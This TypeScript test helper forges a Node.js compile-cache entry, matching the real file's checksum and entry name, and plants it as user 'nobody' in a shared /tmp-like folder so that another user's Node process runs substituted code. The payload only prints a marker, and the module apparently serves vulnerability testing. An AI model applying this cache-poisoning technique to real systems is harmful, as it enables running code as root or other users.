/** Forges compiled code for a file of the command, and plants it, as another user, where Node looks for it. */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { chmodSync, globSync, mkdirSync, readFileSync, renameSync, statSync, writeFileSync } from "node:fs";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { crc32 } from "node:zlib";

/** Printed by the planted code. */
export const PLANTED = "PLANTED";
/** `nobody`: neither root nor the owner of anything here. */
export const attacker = { uid: 65_534, gid: 65_534 } as const;
/** Octets of the header in which Node keeps the checksum of the source. */
const HEADER = 64;

/**
 * Makes a folder for `NODE_COMPILE_CACHE` with an entry for `target` that runs other code. Node compares the CRC-32 of the
 * source and V8 its length, so the entry has both of the real file.
 */
export function forgeCache(target: string, folder: string): string {
  const source = readFileSync(target, "utf8");
  const own = path.join(folder, "own.mjs");
  const code = `process.stdout.write("${PLANTED}\\n"); process.exit(0);`.padEnd(source.length, " ");
  writeFileSync(own, code);
  const cache = path.join(folder, "cache");
  // Node writes its cache when it exits.
  const { status, stderr } = spawnSync(process.execPath, [own], {
    env: { NODE_COMPILE_CACHE: cache },
    encoding: "utf8",
  });
  assert.equal(status, 0, stderr);
  const [entry = "", ...others] = globSync(`${cache}/*/*`);
  assert.deepEqual(others, []);
  const bytecode = readFileSync(entry);
  const place = bytecode.subarray(0, HEADER).indexOf(word(crc32(code)));
  assert.ok(place >= 0, "the entry does not name its source");
  word(crc32(source)).copy(bytecode, place);
  writeFileSync(entry, bytecode);
  chmodSync(entry, 0o644);
  const kind = Array.from({ length: 256 }, (_, octet) => octet).find(
    (octet) => nameOf(octet, own) === path.basename(entry),
  );
  assert.ok(kind !== undefined, "Node names its entries in another way");
  renameSync(entry, path.join(path.dirname(entry), nameOf(kind, target)));
  chmodSync(folder, 0o755);
  return cache;
}

/** Copies the cache, as the attacker, into the shared folder before anybody else makes it there. */
export function plant(cache: string, shared: string): void {
  const copied = spawnSync("cp", ["-r", cache, path.join(shared, "node-compile-cache")], {
    ...attacker,
    encoding: "utf8",
  });
  assert.equal(copied.status, 0, copied.stderr);
}

/** Makes a folder like /tmp: everybody may create files in it, and only their owner may remove them. */
export function sharedFolder(parent: string): string {
  const shared = path.join(parent, "shared");
  mkdirSync(shared);
  chmodSync(parent, 0o755);
  chmodSync(shared, 0o1777);
  return shared;
}

/** What root has put there, except folders that nobody else can enter. */
export function exposedIn(shared: string): readonly string[] {
  const isExposed = (name: string): boolean => {
    const { uid, mode } = statSync(path.join(shared, name));
    return uid === 0 && !name.includes(path.sep) && (mode & 0o077) !== 0;
  };
  const planted = globSync("node-compile-cache/**/*", { cwd: shared });
  return [
    ...globSync("*", { cwd: shared }).filter(isExposed),
    ...planted.filter((name) => statSync(path.join(shared, name)).uid !== attacker.uid),
  ];
}

function nameOf(kind: number, file: string): string {
  return crc32(Buffer.from(`${String.fromCodePoint(kind)}${pathToFileURL(file).href}`, "latin1"))
    .toString(16)
    .padStart(8, "0");
}

function word(value: number): Buffer {
  const octets = Buffer.alloc(4);
  octets.writeUInt32LE(value);
  return octets;
}
